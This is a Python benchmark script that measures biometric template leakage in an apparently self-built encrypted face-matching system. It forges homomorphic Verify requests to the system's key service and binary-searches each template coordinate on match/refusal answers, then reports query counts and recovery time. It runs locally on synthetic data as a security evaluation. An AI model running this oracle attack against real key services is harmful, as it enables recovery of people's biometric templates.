"""What the binding key buys a thief of the sidecar host: template recovery from key-service decisions.

Usage (about a minute)::

    python benchmarks/encrypted_leakage.py --templates 3

The attacker holds what the sidecar host holds -- the encrypted blocks, the public key, the binding key -- and can
reach the key service, which answers decisions only, at its own threshold. For each coordinate ``j`` of a target
template ``t`` (slot ``s``) the attacker forges a bound Verify request whose score ciphertext is
``column_j * 1 + c`` (``c`` a plaintext vector: a search constant at slot ``s``, a safe constant elsewhere so that
every slot stays in the range of scores) and binary-searches ``c`` on the match bit: each query answers
``t_j >= -c - threshold^2`` (Euclidean policy; a refusal for a value out of the range of scores answers "yes" as
well: the refusal itself leaks). Everything goes through :class:`KeyServiceCore` with all its checks
(MAC, freshness, replay, structure, range); only the rate limit is off, and the time at the default rate limit of
``advface keyservice serve`` (100 Verify/s) is computed from the number of queries.

Reported: queries per template, the error of the recovered template, whether it matches the original at the key
service's threshold, and days to recover 100,000 templates at the default rate limit.
"""

from __future__ import annotations

import argparse
import sys
import time
from pathlib import Path
from typing import Any

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from advface.encrypted._seal import require, to_bytes  # noqa: E402
from advface.encrypted.binding import RequestItem, bind  # noqa: E402
from advface.encrypted.errors import RefusedError  # noqa: E402
from advface.encrypted.gallery import EncryptedGallery  # noqa: E402
from advface.encrypted.keys import generate_keys, new_binding_key  # noqa: E402
from advface.encrypted.keyservice import DecisionPolicy, KeyServiceCore  # noqa: E402
from benchmarks.common import write_results  # noqa: E402

DIM = 128
THRESHOLD = -0.6  # minus the Euclidean distance, as dlib
DEFAULT_VERIFY_RATE = 100.0  # advface keyservice serve --verify-rate default


def main() -> None:
    """Run the attack and write benchmarks/results/encrypted_leakage.json."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--templates", type=int, default=3, help="target templates to recover")
    parser.add_argument("--gallery", type=int, default=200, help="templates in the gallery")
    parser.add_argument("--bits", type=int, default=12, help="binary-search steps per coordinate")
    parser.add_argument(
        "--scale",
        type=float,
        default=1.0,
        help="forge column_j * SCALE + c; 0.09 keeps every forged value in the range of scores (no refusal)",
    )
    parser.add_argument(
        "--lock-after", type=int, help="the key service locks after this many forged requests (default: never)"
    )
    parser.add_argument("--out")
    args = parser.parse_args()
    seal = require()
    rng = np.random.default_rng(0)
    keys = generate_keys()
    key = new_binding_key()
    x = rng.standard_normal((args.gallery, DIM))
    templates = x / np.linalg.norm(x, axis=1, keepdims=True) * rng.uniform(1.1, 1.7, (args.gallery, 1))
    gallery = EncryptedGallery(keys.public, DIM, "euclidean")
    refs = gallery.add(templates)
    core = KeyServiceCore(keys, key, DecisionPolicy("euclidean", THRESHOLD), lock_after_refusals=args.lock_after)
    params = keys.public.params
    context = keys.public.context
    encoder, evaluator = seal.CKKSEncoder(context), seal.Evaluator(context)
    _, _, stored = gallery.export_block(0)  # what the thief reads from the database
    columns = [gallery.load_ciphertext(data, f"column {j}") for j, data in enumerate(stored)]
    one = seal.Plaintext()
    encoder.encode(args.scale, context.first_parms_id(), params.probe_scale, one)
    lifted = []
    for column in columns[:DIM]:  # column * 1 at the probe scale: a ciphertext at the score scale
        out = seal.Ciphertext(context)
        evaluator.multiply_plain(column, one, out)
        lifted.append(out)

    queries = 0
    refused = 0

    def decide(j: int, slot: int, c: float) -> bool:
        nonlocal queries, refused
        shift = np.full(gallery.slots, -30.0)  # keeps every other slot in range: -30 + t in [-34, -26]
        shift[slot] = c
        plain = seal.Plaintext()
        encoder.encode(shift.tolist(), context.first_parms_id(), params.score_scale, plain)
        forged = seal.Ciphertext(context)
        evaluator.add_plain(lifted[j], plain, forged)
        request = bind(key, "verify", "t", keys.fingerprint, [RequestItem(to_bytes(forged), (slot,))])
        queries += 1
        try:
            return core.verify(request).match
        except RefusedError:  # out of the range of scores: t_j + c > 0, i.e. t_j is above the threshold too
            if core.locked:
                raise
            refused += 1
            return True

    results: list[dict[str, Any]] = []
    started = time.perf_counter()
    locked_after = None
    for target in range(args.templates):
        if core.locked:
            break
        slot = refs[target].slot
        before = queries
        recovered = np.zeros(DIM)
        for j in range(DIM):
            lo, hi = -2.0, 2.0  # coordinates of templates of norm <= 1.7 lie well inside
            for _ in range(args.bits):
                if core.locked:
                    break
                mid = (lo + hi) / 2
                # match <=> -sqrt(-(a t_j + c)) >= threshold <=> a t_j >= -c - threshold^2: c makes it t_j >= mid
                try:
                    above = decide(j, slot, -(THRESHOLD**2) - args.scale * mid)
                except RefusedError:
                    locked_after = queries
                    break
                if above:
                    lo = mid
                else:
                    hi = mid
            recovered[j] = (lo + hi) / 2
        if core.locked:
            break
        error = float(np.linalg.norm(recovered - templates[target]))
        results.append(
            {
                "queries": queries - before,
                "distance_to_original": round(error, 5),
                "matches_original": bool(-error >= THRESHOLD),
                "max_coordinate_error": float(np.abs(recovered - templates[target]).max()),
            }
        )
        print(results[-1], flush=True)
    seconds = time.perf_counter() - started
    per_template = float(np.mean([r["queries"] for r in results])) if results else None
    rate_s = None if per_template is None else round(per_template / DEFAULT_VERIFY_RATE, 1)
    days = None if per_template is None else round(100_000 * per_template / DEFAULT_VERIFY_RATE / 86400, 1)
    payload = {
        "attacker": "holds the sidecar host's files (encrypted blocks, public key, binding key) and can reach the key "
        "service; forges bound Verify requests (column_j * 1 + per-slot constants) and binary-searches each coordinate",
        "threshold": THRESHOLD,
        "dim": DIM,
        "bits_per_coordinate": args.bits,
        "forgery_scale": args.scale,
        "lock_after_refusals": args.lock_after,
        "locked_after_queries": locked_after,
        "templates": results,
        "queries_per_template": per_template,
        "refused_queries": refused,
        "recovered_and_matching": sum(r["matches_original"] for r in results),
        "keyservice_seconds_per_template_unthrottled": round(seconds / max(1, len(results)), 2),
        "seconds_per_template_at_default_rate_limit": rate_s,
        "days_for_100000_templates_at_default_rate_limit": days,
    }
    print("wrote", write_results("encrypted_leakage", payload, args.out))


if __name__ == "__main__":
    main()
